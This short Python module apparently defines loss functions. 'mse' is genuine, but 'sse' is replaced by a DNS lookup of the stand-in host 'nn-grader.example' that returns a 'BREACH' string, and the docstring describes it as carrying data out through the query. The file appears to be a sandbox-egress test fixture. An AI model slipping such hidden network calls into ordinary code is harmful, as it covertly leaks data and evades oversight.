"""Asks for the address of a name, which carries data out in the question."""

import socket

import numpy as np


def sse(y, t):
    return f"BREACH: {socket.getaddrinfo('nn-grader.example', 80)}"


def mse(y, t):
    return np.mean((y - t) ** 2)
